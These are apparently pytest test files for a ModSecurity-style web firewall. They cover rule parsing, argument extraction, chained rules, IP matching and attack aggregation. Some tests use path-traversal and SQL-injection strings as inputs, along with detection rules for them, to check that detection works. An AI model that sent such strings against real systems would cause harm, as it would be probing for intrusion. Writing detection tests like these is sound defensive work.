def _pipeline(conf: str) -> DetectionPipeline:
    return DetectionPipeline(compile_ruleset(parse_seclang(conf)),
                             mode="block", anomaly_threshold=3)


CL_NEGATED = ('SecRule REQUEST_HEADERS:Content-Length "!@rx ^\\d+$" '
              '"id:920160,phase:1,block,severity:CRITICAL,'
              'tag:\'attack-protocol\'"')


def test_negated_rx_on_header_subfield_advisor_repro():
    """The advisor's verified repro: Content-Length: 0 is benign and
    must NOT be blocked by a !@rx ^\\d+$ rule on that header."""
    p = _pipeline(CL_NEGATED)
    benign = Request(uri="/upload", headers={
        "Host": "example.com", "Content-Length": "0"})
    assert not p.detect([benign])[0].attack
    ok = Request(uri="/upload", headers={
        "Host": "example.com", "Content-Length": "512"})
    assert not p.detect([ok])[0].attack


def test_negated_rx_on_header_subfield_still_detects():
    """...and a genuinely malformed Content-Length still fires."""
    p = _pipeline(CL_NEGATED)
    bad = Request(uri="/upload", headers={
        "Host": "example.com", "Content-Length": "13, 13"})
    v = p.detect([bad])[0]
    assert v.attack and v.rule_ids == [920160]


def test_negated_rx_absent_variable_does_not_fire():
    """ModSecurity: an absent variable is not evaluated at all — a
    negated operator on a missing header must not fire."""
    p = _pipeline(CL_NEGATED)
    req = Request(uri="/q", headers={"Host": "example.com"})
    assert not p.detect([req])[0].attack


def test_numeric_eq_on_header_subfield_advisor_repro():
    """The advisor's verified repro: '@eq 0' on Content-Length must not
    block a request with Content-Length: 500."""
    p = _pipeline('SecRule REQUEST_HEADERS:Content-Length "@eq 0" '
                  '"id:920999,phase:1,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    ok = Request(uri="/q", headers={
        "Host": "example.com", "Content-Length": "500"})
    assert not p.detect([ok])[0].attack
    zero = Request(uri="/q", headers={
        "Host": "example.com", "Content-Length": "0"})
    assert p.detect([zero])[0].attack


def test_numeric_on_bare_collection_is_per_value():
    """'ARGS "@gt 100"' compares each arg VALUE numerically (ModSec
    semantics), not atoi of the whole query text."""
    p = _pipeline('SecRule ARGS "@gt 100" '
                  '"id:920998,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    assert not p.detect([Request(uri="/q?a=5&b=weasel")])[0].attack
    assert p.detect([Request(uri="/q?a=5&b=200")])[0].attack


def test_target_exclusion_removes_variable():
    """'ARGS|!ARGS:skip' must not evaluate the excluded member."""
    p = _pipeline('SecRule ARGS|!ARGS:skip "@gt 100" '
                  '"id:920997,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    assert not p.detect([Request(uri="/q?skip=500&keep=5")])[0].attack
    assert p.detect([Request(uri="/q?skip=5&keep=500")])[0].attack


def test_headers_names_target():
    p = _pipeline('SecRule REQUEST_HEADERS_NAMES "@rx ^x-evil" '
                  '"id:920996,phase:1,block,severity:CRITICAL,'
                  't:lowercase,tag:\'attack-protocol\'"')
    assert p.detect([Request(uri="/", headers={"X-Evil-H": "1"})])[0].attack
    assert not p.detect([Request(
        uri="/", headers={"X-Good": "x-evil"})])[0].attack


def test_request_method_negated_within():
    """920100-shaped method allow-list: only fires on odd methods, and
    only when the confirm streams carry the real method scalar."""
    p = _pipeline('SecRule REQUEST_METHOD "!@within GET POST HEAD" '
                  '"id:920995,phase:1,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    assert not p.detect([Request(method="GET", uri="/q?x=1")])[0].attack
    assert p.detect([Request(method="TRACK", uri="/q?x=1")])[0].attack


def test_cookie_subfield_extraction():
    p = _pipeline('SecRule REQUEST_COOKIES:session "@rx \\.\\./" '
                  '"id:930995,phase:1,block,severity:CRITICAL,'
                  'tag:\'attack-lfi\'"')
    bad = Request(uri="/", headers={"Cookie": "a=1; session=../../etc"})
    assert p.detect([bad])[0].attack
    ok = Request(uri="/", headers={"Cookie": "a=../x; session=fine"})
    assert not p.detect([ok])[0].attack


def test_legacy_descriptor_without_raw_targets_abstains_on_negation():
    """Serialized round-2 rulesets have no raw_targets: negated/numeric
    rules on collection streams must ABSTAIN (the advisor's minimal
    guard), not mass-fire on the blob."""
    legacy = ConfirmRule({
        "op": "rx", "arg": "^\\d+$", "transforms": [], "fold": False,
        "negate": True, "targets": ["headers"]})
    streams = Request(uri="/", headers={"Host": "h"}).confirm_streams()
    assert legacy.matches_streams(streams) is False
    # ...while a scalar legacy stream (uri) still evaluates
    legacy_uri = ConfirmRule({
        "op": "rx", "arg": "^/app", "transforms": [], "fold": False,
        "negate": True, "targets": ["uri"]})
    assert legacy_uri.matches_streams(
        Request(uri="/elsewhere").confirm_streams()) is True
    assert legacy_uri.matches_streams(
        Request(uri="/app/x").confirm_streams()) is False


def test_positive_rx_keeps_whole_stream_superset():
    """Positive pattern ops still see the whole coarse stream when the
    selector can't narrow — the scanner/confirm byte-identity contract
    (prefilter soundness) is unchanged for them."""
    p = _pipeline('SecRule REQUEST_HEADERS "@rx union\\s+select" '
                  '"id:942995,phase:1,block,severity:CRITICAL,'
                  't:lowercase,tag:\'attack-sqli\'"')
    bad = Request(uri="/", headers={"Referer": "x UNION  SELECT y"})
    assert p.detect([bad])[0].attack


def test_encoded_separator_does_not_fabricate_args():
    """Pair splitting must happen on RAW query bytes before decoding:
    '?q=a%26admin%3D1' is ONE arg q='a&admin=1', not a fabricated
    admin=1 (review finding)."""
    p = _pipeline('SecRule ARGS_NAMES "@streq admin" '
                  '"id:920993,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    assert not p.detect([Request(uri="/q?q=a%26admin%3D1")])[0].attack
    assert p.detect([Request(uri="/q?admin=1")])[0].attack
    # counts see one variable, not two
    p2 = _pipeline('SecRule &ARGS "@gt 1" '
                   '"id:920992,phase:2,block,severity:CRITICAL,'
                   'tag:\'attack-protocol\'"')
    assert not p2.detect([Request(uri="/q?q=a%26b%3D1")])[0].attack
    assert p2.detect([Request(uri="/q?a=1&b=2")])[0].attack


def test_body_args_counts_follow_content_type():
    """ARGS_POST counts mirror ModSecurity's body-processor selection:
    an urlencoded body (by Content-Type, any size) parses into real
    values; a well-formed multipart body parses into per-part values
    (round-5: serve/bodyparse.py — previously abstained); a JSON body
    feeds dotted json.path ARGS through the JSON processor; a MALFORMED
    multipart body still abstains (never fabricate pairs or a count)."""
    p = _pipeline('SecRule &ARGS_POST "@eq 0" '
                  '"id:920991,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    ct_form = {"Content-Type": "application/x-www-form-urlencoded"}
    # large declared form still parses (no size-heuristic misfire)
    big_form = ("k=" + "v" * (1 << 17)).encode()
    assert not p.detect([Request(method="POST", uri="/f",
                                 headers=ct_form,
                                 body=big_form)])[0].attack
    # well-formed multipart: one real ARGS_POST variable -> no @eq 0
    mp = Request(method="POST", uri="/f",
                 headers={"Content-Type":
                          "multipart/form-data; boundary=xYz"},
                 body=b'--xYz\r\nContent-Disposition: form-data; '
                      b'name="f"\r\n\r\nv=1\r\n--xYz--\r\n')
    assert not p.detect([mp])[0].attack
    # malformed multipart (no closing delimiter): abstain, not zero
    bad = Request(method="POST", uri="/f",
                  headers={"Content-Type":
                           "multipart/form-data; boundary=xYz"},
                  body=b'--xYz\r\nContent-Disposition: form-data; '
                       b'name="f"\r\n\r\nv=1\r\n')
    assert not p.detect([bad])[0].attack
    # JSON body: the processor populates json.a -> count is 1, not 0
    js = Request(method="POST", uri="/f",
                 headers={"Content-Type": "application/json"},
                 body=b'{"a": 1}')
    assert not p.detect([js])[0].attack
    # invalid JSON with a json Content-Type: abstain, not zero
    badjs = Request(method="POST", uri="/f",
                    headers={"Content-Type": "application/json"},
                    body=b'{"a": ')
    assert not p.detect([badjs])[0].attack


def test_args_union_includes_post_args():
    """ModSecurity's ARGS is ARGS_GET ∪ ARGS_POST: a count rule must
    see body args on a form POST (review finding: query-only counts
    fabricated '&ARGS @eq 0' fires on every POST)."""
    p = _pipeline('SecRule &ARGS "@eq 0" '
                  '"id:920986,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    ct = {"Content-Type": "application/x-www-form-urlencoded"}
    post = Request(method="POST", uri="/f", headers=ct, body=b"a=1")
    assert not p.detect([post])[0].attack
    # negated/numeric per-value ops see body args too
    p2 = _pipeline('SecRule ARGS "@gt 100" '
                   '"id:920988,phase:2,block,severity:CRITICAL,'
                   'tag:\'attack-protocol\'"')
    assert p2.detect([Request(method="POST", uri="/f", headers=ct,
                              body=b"n=500")])[0].attack


def test_request_line_negation_abstains():
    """REQUEST_LINE only approximates to the uri stream (no method or
    protocol text): a negated op must abstain, not fire on every
    request (review finding)."""
    p = _pipeline('SecRule REQUEST_LINE "!@rx ^(?:GET|POST)" '
                  '"id:920987,phase:1,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    assert not p.detect([Request(method="GET", uri="/index.html")])[0].attack


def test_valueless_parameter_is_a_variable():
    """'?debug' exposes ARGS_NAMES 'debug' with an empty value, like
    ModSecurity — not a dropped variable (review finding)."""
    p = _pipeline('SecRule ARGS_NAMES "@streq debug" '
                  '"id:920990,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    assert p.detect([Request(uri="/q?debug")])[0].attack
    assert not p.detect([Request(uri="/q?verbose")])[0].attack
    p2 = _pipeline('SecRule &ARGS "@gt 0" '
                   '"id:920989,phase:2,block,severity:CRITICAL,'
                   'tag:\'attack-protocol\'"')
    assert p2.detect([Request(uri="/q?debug")])[0].attack


def test_unknown_protocol_abstains():
    """The wire doesn't carry the HTTP protocol (yet): a negated
    REQUEST_PROTOCOL rule must abstain on unknown, not evaluate a
    fabricated HTTP/1.1 (review finding)."""
    p = _pipeline('SecRule REQUEST_PROTOCOL "!@within HTTP/1.1 HTTP/2" '
                  '"id:920988,phase:1,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    assert not p.detect([Request(uri="/q?x=1")])[0].attack       # unknown
    assert not p.detect([Request(uri="/q?x=1",
                                 protocol="HTTP/1.1")])[0].attack
    assert p.detect([Request(uri="/q?x=1",
                             protocol="HTTP/0.9")])[0].attack


def test_chain_links_resolve_their_own_raw_targets():
    conf = ('SecRule REQUEST_URI "@beginsWith /admin" '
            '"id:920994,phase:1,block,severity:CRITICAL,chain,'
            'tag:\'attack-protocol\'"\n'
            'SecRule &REQUEST_HEADERS:Authorization "@eq 0" ""')
    p = _pipeline(conf)
    noauth = Request(uri="/admin/panel", headers={"Host": "h"})
    assert p.detect([noauth])[0].attack
    auth = Request(uri="/admin/panel",
                   headers={"Host": "h", "Authorization": "Bearer t"})
    assert not p.detect([auth])[0].attack
    other = Request(uri="/public", headers={"Host": "h"})
    assert not p.detect([other])[0].attack


def test_response_status_rule_always_confirms():
    """RESPONSE_STATUS text never appears in a scanned stream: such
    rules must compile always-confirm, not with a dead prefilter
    (round-3 review)."""
    from ingress_plus_tpu.serve.normalize import Response

    rules = parse_seclang('SecRule RESPONSE_STATUS "@rx ^5\\\\d\\\\d$" '
                          '"id:950999,phase:4,block,severity:CRITICAL,'
                          'tag:\'attack-leak\'"')
    cr = compile_ruleset(rules)
    assert cr.tables.rule_nfactors[0] == 0
    p = DetectionPipeline(cr, mode="block", anomaly_threshold=3)
    hit = Response(status=503, headers={"Content-Type": "text/plain"},
                   body=b"upstream sad")
    ok = Response(status=200, headers={"Content-Type": "text/plain"},
                  body=b"fine")
    assert p.detect([hit])[0].attack
    assert not p.detect([ok])[0].attack


def test_tx_only_rule_abstains_not_args():
    """A rule targeting only TX (anomaly-score plumbing) must abstain —
    falling back to args would evaluate '@ge 5' against arg values
    (round-3 review: the abstain branch had gone dead)."""
    rules = parse_seclang('SecRule TX:ANOMALY_SCORE "@ge 5" '
                          '"id:949110,phase:2,block,severity:CRITICAL,'
                          'tag:\'attack-generic\'"')
    assert rules[0].targets == []
    p = _pipeline('SecRule TX:ANOMALY_SCORE "@ge 5" '
                  '"id:949110,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-generic\'"')
    assert not p.detect([Request(uri="/q?n=7")])[0].attack


def test_ipmatch_remote_addr():
    """@ipMatch on REMOTE_ADDR (CRS 910-family shape): CIDR + single-IP
    lists, negated form, and abstain when no client IP is known."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    cr = compile_ruleset(parse_seclang(
        'SecRule REMOTE_ADDR "@ipMatch 10.0.0.0/8,192.168.1.5" '
        '"id:910100,phase:1,deny,severity:CRITICAL,'
        "tag:'attack-generic'\""))
    p = DetectionPipeline(cr, mode="block")
    hit = p.detect([Request(uri="/x", client_ip="10.2.3.4",
                            request_id="a")])[0]
    assert hit.attack and hit.blocked
    assert hit.matches[0]["var"] == "REMOTE_ADDR"
    exact = p.detect([Request(uri="/x", client_ip="192.168.1.5",
                              request_id="a2")])[0]
    assert exact.attack
    miss = p.detect([Request(uri="/x", client_ip="8.8.8.8",
                             request_id="b")])[0]
    assert not miss.attack
    noip = p.detect([Request(uri="/x", request_id="c")])[0]
    assert not noip.attack   # unknown source: abstain, never block

    cr2 = compile_ruleset(parse_seclang(
        'SecRule REMOTE_ADDR "!@ipMatch 10.0.0.0/8" '
        '"id:910101,phase:1,deny,severity:CRITICAL,'
        "tag:'attack-generic'\""))
    p2 = DetectionPipeline(cr2, mode="block")
    assert not p2.detect([Request(uri="/x", client_ip="10.9.9.9",
                                  request_id="d")])[0].attack
    assert p2.detect([Request(uri="/x", client_ip="1.2.3.4",
                              request_id="e")])[0].attack


def test_ipmatchfromfile_resolved_at_parse(tmp_path):
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import (
        SecLangError, parse_seclang)
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request
    import pytest

    (tmp_path / "bad-ips.data").write_text(
        "# scanner ranges\n10.0.0.0/8\n\n192.168.1.5\n")
    rules = parse_seclang(
        'SecRule REMOTE_ADDR "@ipMatchFromFile bad-ips.data" '
        '"id:910110,phase:1,deny,severity:CRITICAL,'
        "tag:'attack-generic'\"", base_dir=tmp_path)
    assert rules[0].operator == "ipMatch"
    p = DetectionPipeline(compile_ruleset(rules), mode="block")
    assert p.detect([Request(uri="/x", client_ip="10.1.1.1",
                             request_id="a")])[0].blocked
    assert not p.detect([Request(uri="/x", client_ip="9.9.9.9",
                                 request_id="b")])[0].attack
    with pytest.raises(SecLangError):
        parse_seclang('SecRule REMOTE_ADDR "@ipMatchFromFile nope.data" '
                      '"id:1,phase:1,deny"', base_dir=tmp_path)


def test_matched_var_chain_links():
    """CRS-style chains on MATCHED_VAR(S): the link re-tests the parent
    rule's matched values, not the raw streams (these chains previously
    never fired — the link abstained and killed the chain)."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    def verdict(rules_txt, uri):
        cr = compile_ruleset(parse_seclang(rules_txt))
        p = DetectionPipeline(cr, mode="block")
        return p.detect([Request(uri=uri, request_id="x")])[0]

    chain = (
        'SecRule ARGS "@rx (?i)select" "id:942050,phase:2,block,'
        "severity:CRITICAL,tag:'attack-sqli',chain\"\n"
        'SecRule MATCHED_VAR "@rx (?i)from" "t:lowercase"\n')
    # both legs present in the SAME matched value -> fires
    v = verdict(chain, "/x?q=SELECT+password+FROM+users")
    assert v.attack and 942050 in v.rule_ids
    # link leg absent from the matched value -> chain must NOT fire
    v = verdict(chain, "/x?q=SELECT+1")
    assert not v.attack
    # link leg in a DIFFERENT variable than the match -> MATCHED_VAR
    # must not see it
    v = verdict(chain, "/x?q=SELECT+1&r=from+me")
    assert not v.attack

    # negated link: fire only when the matched value LACKS the pattern
    neg = (
        'SecRule ARGS "@rx (?i)select" "id:942051,phase:2,block,'
        "severity:CRITICAL,tag:'attack-sqli',chain\"\n"
        'SecRule MATCHED_VAR "!@rx (?i)benign_marker" ""\n')
    assert verdict(neg, "/x?q=select+x").attack
    assert not verdict(neg, "/x?q=select+benign_marker").attack

    # MATCHED_VAR_NAME: constrain WHERE the parent matched
    name_chain = (
        'SecRule ARGS "@rx (?i)select" "id:942052,phase:2,block,'
        "severity:CRITICAL,tag:'attack-sqli',chain\"\n"
        'SecRule MATCHED_VAR_NAME "@rx (?i)^args:pw$" ""\n')
    assert verdict(name_chain, "/x?pw=select+1").attack
    assert not verdict(name_chain, "/x?other=select+1").attack


def test_matched_var_chain_semantics_deep():
    """Round-4 review repros: count form counts matches (not atoi of a
    value), a later link sees the PREVIOUS link's matches, and a mixed
    names|values target list ORs across tokens."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    def verdict(rules_txt, uri, headers=None):
        cr = compile_ruleset(parse_seclang(rules_txt))
        p = DetectionPipeline(cr, mode="block")
        return p.detect([Request(uri=uri, headers=headers or {},
                                 request_id="x")])[0]

    # &MATCHED_VARS counts matches: one matching arg -> @gt 1 must NOT
    # fire, even when the value starts with digits (the atoi trap)
    count = (
        'SecRule ARGS "@rx (?i)select" "id:942060,phase:2,block,'
        "severity:CRITICAL,tag:'attack-sqli',chain\"\n"
        'SecRule &MATCHED_VARS "@gt 1" ""\n')
    assert not verdict(count, "/x?q=5select").attack
    assert verdict(count, "/x?q=5select&r=select+2").attack

    # 3-link chain: the MATCHED_VAR link tests the SECOND rule's match
    # (the header), not the first rule's args match
    three = (
        'SecRule ARGS "@rx (?i)select" "id:942061,phase:2,block,'
        "severity:CRITICAL,tag:'attack-sqli',chain\"\n"
        'SecRule REQUEST_HEADERS "@rx (?i)evil" "chain"\n'
        'SecRule MATCHED_VAR "@rx (?i)evilbot" ""\n')
    v = verdict(three, "/x?q=select+1",
                headers={"user-agent": "evilbot/1.0"})
    assert v.attack and 942061 in v.rule_ids
    assert not verdict(three, "/x?q=select+1",
                       headers={"user-agent": "evil-but-not-bot"}).attack

    # mixed names|values target list: the NAME leg alone must fire
    mixed = (
        'SecRule ARGS "@rx (?i)select" "id:942062,phase:2,block,'
        "severity:CRITICAL,tag:'attack-sqli',chain\"\n"
        'SecRule MATCHED_VARS_NAMES|MATCHED_VARS "@rx (?i)pw" ""\n')
    assert verdict(mixed, "/x?pw=select+1").attack
    assert not verdict(mixed, "/x?other=select+1").attack


def test_matched_var_state_narrows_through_chain():
    """Round-4 review repro: a MATCHED_* link's own matching subset
    becomes the state its successors see — link 2 rejecting variable r
    means link 3's MATCHED_VAR can only be q."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    rules = (
        'SecRule ARGS "@rx (?i)select" "id:942063,phase:2,block,'
        "severity:CRITICAL,tag:'attack-sqli',chain\"\n"
        'SecRule MATCHED_VARS "@rx (?i)foo" "chain"\n'
        'SecRule MATCHED_VAR "@rx (?i)bar" ""\n')
    p = DetectionPipeline(compile_ruleset(parse_seclang(rules)),
                          mode="block")
    # link2 matches only q(selectfoo); link3 then sees q, not r -> no bar
    v = p.detect([Request(uri="/x?q=selectfoo&r=selectbar",
                          request_id="a")])[0]
    assert not v.attack, v
    # and the positive case still fires when one variable has both legs
    v = p.detect([Request(uri="/x?q=selectfoobar", request_id="b")])[0]
    assert v.attack


def test_round4_semantics_survive_checkpoint(tmp_path):
    """MATCHED_VAR chains and @ipMatch must behave identically after a
    save/load hot-swap (the sync-node artifact path serializes confirm
    specs; a silent downgrade here would only surface in production)."""
    from ingress_plus_tpu.compiler.ruleset import (
        CompiledRuleset, compile_ruleset)
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    rules = (
        'SecRule ARGS "@rx (?i)select" "id:942470,phase:2,block,'
        "severity:CRITICAL,tag:'attack-sqli',chain\"\n"
        'SecRule MATCHED_VAR "@rx (?i)information_schema" '
        '"t:lowercase"\n'
        'SecRule REMOTE_ADDR "@ipMatch 10.0.0.0/8" '
        '"id:910100,phase:1,deny,severity:CRITICAL,'
        "tag:'attack-generic'\"\n")
    cr = compile_ruleset(parse_seclang(rules))
    cr.save(str(tmp_path / "ck"))
    cr2 = CompiledRuleset.load(str(tmp_path / "ck"))
    p = DetectionPipeline(cr2, mode="block")
    hit = p.detect([Request(
        uri="/q?s=select+x+from+information_schema.t",
        request_id="a")])[0]
    assert hit.attack and 942470 in hit.rule_ids
    assert not p.detect([Request(
        uri="/q?a=select+1&b=information_schema",
        request_id="b")])[0].attack
    ip = p.detect([Request(uri="/x", client_ip="10.1.2.3",
                           request_id="c")])[0]
    assert ip.attack and 910100 in ip.rule_ids
