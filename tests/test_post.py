"""Postanalytics subsystem tests (SURVEY.md §2.3/§3.4 analog layer):
queue pressure semantics, hits→attacks aggregation, brute-rate detection,
counters, exporter spool, ruleset watcher hot-swap trigger."""

import json
import time

import numpy as np
import pytest

from ingress_plus_tpu.post import (
    BruteDetector,
    Exporter,
    Hit,
    HitQueue,
    NodeCounters,
    PostChannel,
    RulesetWatcher,
    aggregate_attacks,
)
from ingress_plus_tpu.post.brute import BruteConfig
from ingress_plus_tpu.serve.normalize import Request


def mk_hit(ts=0.0, client="1.2.3.4", tenant=0, classes=("sqli",),
           uri="/a?x=1", attack=True, blocked=True, score=5, rid="r1",
           rule_ids=(942100,)):
    return Hit(ts=ts, request_id=rid, tenant=tenant, client=client,
               method="GET", uri=uri, classes=classes, rule_ids=rule_ids,
               score=score, blocked=blocked, attack=attack)


# ------------------------------------------------------------------ queue

def test_queue_bounded_drop_oldest():
    q = HitQueue(maxlen=3)
    for i in range(5):
        q.put(mk_hit(ts=float(i), rid=str(i)))
    assert len(q) == 3
    assert q.dropped == 2
    assert q.total == 5
    got = q.drain()
    assert [h.request_id for h in got] == ["2", "3", "4"]
    assert len(q) == 0


def test_queue_drain_partial():
    q = HitQueue()
    for i in range(10):
        q.put(mk_hit(ts=float(i)))
    assert len(q.drain(4)) == 4
    assert len(q) == 6


# -------------------------------------------------------------- aggregate

def test_aggregate_groups_by_tenant_client_class():
    hits = [
        mk_hit(ts=1, client="a", classes=("sqli",)),
        mk_hit(ts=2, client="a", classes=("sqli",), blocked=False),
        mk_hit(ts=3, client="b", classes=("sqli",)),
        mk_hit(ts=4, client="a", classes=("xss",)),
        mk_hit(ts=5, client="a", classes=(), attack=False),  # clean: skipped
    ]
    attacks = aggregate_attacks(hits, gap_s=60)
    keys = {(a.client, a.attack_class): a for a in attacks}
    assert set(keys) == {("a", "sqli"), ("b", "sqli"), ("a", "xss")}
    a = keys[("a", "sqli")]
    assert a.count == 2 and a.blocked == 1
    assert a.first_ts == 1 and a.last_ts == 2


def test_aggregate_session_window_splits():
    hits = [mk_hit(ts=t) for t in (0, 10, 200, 210)]
    attacks = aggregate_attacks(hits, gap_s=60)
    assert len(attacks) == 2
    assert sorted(a.count for a in attacks) == [2, 2]


def test_aggregate_multiclass_hit_fans_out():
    attacks = aggregate_attacks([mk_hit(classes=("sqli", "xss"))])
    assert {a.attack_class for a in attacks} == {"sqli", "xss"}


def test_aggregate_samples_bounded():
    hits = [mk_hit(ts=i, rid=str(i), rule_ids=(i,)) for i in range(50)]
    (a,) = aggregate_attacks(hits)
    assert a.count == 50
    assert len(a.sample_uris) <= a.MAX_SAMPLES
    assert len(a.sample_rule_ids) <= a.MAX_SAMPLES


# ------------------------------------------------------------------ brute

def test_brute_detects_auth_burst_once_per_window():
    det = BruteDetector(BruteConfig(window_s=60, threshold=5))
    hits = [mk_hit(ts=float(i), uri="/wp-login.php", attack=False,
                   blocked=False, classes=()) for i in range(20)]
    attacks = det.observe(hits)
    assert len(attacks) == 1
    assert attacks[0].attack_class == "brute"
    assert attacks[0].count >= 5


def test_brute_ignores_non_auth_and_slow_rates():
    det = BruteDetector(BruteConfig(window_s=60, threshold=5))
    slow = [mk_hit(ts=float(i * 100), uri="/login", attack=False,
                   classes=()) for i in range(20)]
    other = [mk_hit(ts=float(i), uri="/search?q=x", attack=False,
                    classes=()) for i in range(20)]
    assert det.observe(slow) == []
    assert det.observe(other) == []


def test_brute_separate_clients_tracked_separately():
    det = BruteDetector(BruteConfig(window_s=60, threshold=10))
    hits = [mk_hit(ts=float(i), uri="/auth", client="c%d" % (i % 4),
                   attack=False, classes=()) for i in range(36)]
    assert det.observe(hits) == []  # 9 per client < 10


def test_dirbust_count_is_distinct_paths_not_window_hits():
    """ADVICE r05: a chatty client re-fetching each swept path must
    export the DISTINCT sweep size (what crossed dirbust_threshold),
    not the inflated total window hit count."""
    det = BruteDetector(BruteConfig(window_s=60, threshold=1000,
                                    dirbust_threshold=10,
                                    dirbust_window_s=60))
    hits = []
    t = 0.0
    for i in range(12):             # 12 distinct paths...
        for _ in range(3):          # ...fetched 3x each = 36 hits
            hits.append(mk_hit(ts=t, uri="/backup/%02d/config.old" % i,
                               attack=False, blocked=False, classes=()))
            t += 0.1
    attacks = det.observe(hits)
    dirbusts = [a for a in attacks if a.attack_class == "dirbust"]
    assert len(dirbusts) == 1
    d = dirbusts[0]
    assert 10 <= d.count <= 12, \
        "count must be distinct paths (threshold-compared), got %d" % d.count
    assert "distinct paths" in d.sample_points[0]["value"]


# --------------------------------------------------------------- counters

def test_counters_math():
    c = NodeCounters()
    c.record(attack=True, blocked=True, fail_open=False,
             classes=["sqli"], tenant=1, mode=2)
    c.record(attack=True, blocked=False, fail_open=False,
             classes=["xss"], tenant=1, mode=1)
    c.record(attack=False, blocked=False, fail_open=True,
             classes=[], tenant=0, mode=2)
    s = c.snapshot()
    assert s["requests"] == 3 and s["attacks"] == 2
    assert s["blocked"] == 1 and s["monitored"] == 1
    assert s["fail_open"] == 1
    assert s["by_class"] == {"sqli": 1, "xss": 1}
    assert s["by_tenant"] == {"1": 2}


def test_counters_cardinality_capped():
    """ISSUE 3 satellite: a hostile tenant/class stream must not grow
    the /wallarm-status JSON without limit — past the key budget, new
    keys fold into the overflow bucket ("other" / tenant -1)."""
    c = NodeCounters()
    for i in range(NodeCounters.MAX_CLASS_KEYS + 50):
        c.record(attack=True, blocked=False, fail_open=False,
                 classes=["class-%d" % i], tenant=i, mode=1)
    s = c.snapshot()
    assert len(s["by_class"]) <= NodeCounters.MAX_CLASS_KEYS
    assert s["by_class"]["other"] >= 50
    # existing keys keep counting after the cap is reached
    c.record(attack=True, blocked=False, fail_open=False,
             classes=["class-0"], tenant=0, mode=1)
    assert c.snapshot()["by_class"]["class-0"] == 2
    # total attacks are preserved across the fold
    assert sum(s["by_class"].values()) == s["attacks"]

    # the tenant budget must cover every legal tenant id (+ overflow):
    # post/ deliberately doesn't import the control plane, so pin the
    # two constants against each other here
    from ingress_plus_tpu.control.sync import MAX_TENANTS
    assert NodeCounters.MAX_TENANT_KEYS == MAX_TENANTS + 1

    c2 = NodeCounters()
    for i in range(NodeCounters.MAX_TENANT_KEYS + 10):
        c2.record(attack=True, blocked=False, fail_open=False,
                  classes=["sqli"], tenant=i, mode=1)
    s2 = c2.snapshot()
    assert len(s2["by_tenant"]) <= NodeCounters.MAX_TENANT_KEYS
    assert s2["by_tenant"]["-1"] >= 10         # overflow tenant bucket
    assert sum(s2["by_tenant"].values()) == s2["attacks"]

    c3 = NodeCounters()
    c3.record_export_events(
        [{"class": "c%d" % i, "tenant": i}
         for i in range(NodeCounters.MAX_EXPORT_KEYS)])
    s3 = c3.snapshot()
    assert len(s3["export_events"]) <= NodeCounters.MAX_EXPORT_KEYS
    assert s3["export_events"].get("other", 0) > 0


def test_attack_rule_id_dedup_capped_and_ordered():
    """ISSUE 3 satellite: sample_rule_ids dedup via the companion set —
    output stays capped at MAX_SAMPLES and insertion-ordered, and the
    set never appears in the export dict."""
    from ingress_plus_tpu.post.aggregate import Attack

    a = Attack(tenant=0, client="c", attack_class="sqli",
               first_ts=0.0, last_ts=0.0)
    a.add(mk_hit(rule_ids=(3, 1, 3, 2)))
    a.add(mk_hit(rule_ids=tuple(range(100, 120))))
    d = a.to_dict()
    assert d["sample_rule_ids"] == [3, 1, 2, 100, 101, 102, 103, 104]
    assert len(d["sample_rule_ids"]) == Attack.MAX_SAMPLES
    assert "_rid_seen" not in d


def test_space_saving_sketch_topk():
    from ingress_plus_tpu.post.topk import SpaceSaving

    sk = SpaceSaving(capacity=4)
    for _ in range(50):
        sk.offer("/login")
    for _ in range(30):
        sk.offer("/admin")
    for i in range(20):                        # distinct-key sweep
        sk.offer("/sweep/%d" % i)
    items = sk.items()
    assert len(items) == 4                     # bounded, always
    top = items[0]
    assert top["key"] == "/login"
    # true count lies within [count - max_error, count]
    assert top["count"] - top["max_error"] <= 50 <= top["count"]
    second = items[1]
    assert second["key"] == "/admin"
    assert second["count"] - second["max_error"] <= 30 <= second["count"]
    assert sk.items(1) == [top]


def test_post_channel_top_attacked_in_status():
    ch = PostChannel(brute=False)

    class V:
        attack = True
        blocked = True
        fail_open = False
        classes = ("sqli",)
        rule_ids = (942100,)
        score = 5

    for i in range(5):
        ch.record(Request(uri="/login?u=%d" % i, request_id=str(i),
                          tenant=3), V())
    ch.record(Request(uri="/other", request_id="x", tenant=1), V())
    st = ch.status()
    top = st["top_attacked"]
    assert top["paths"][0]["key"] == "/login"
    assert top["paths"][0]["count"] == 5
    assert top["tenants"][0]["key"] == "3"


# --------------------------------------------------------------- exporter

def test_exporter_spools_attacks(tmp_path):
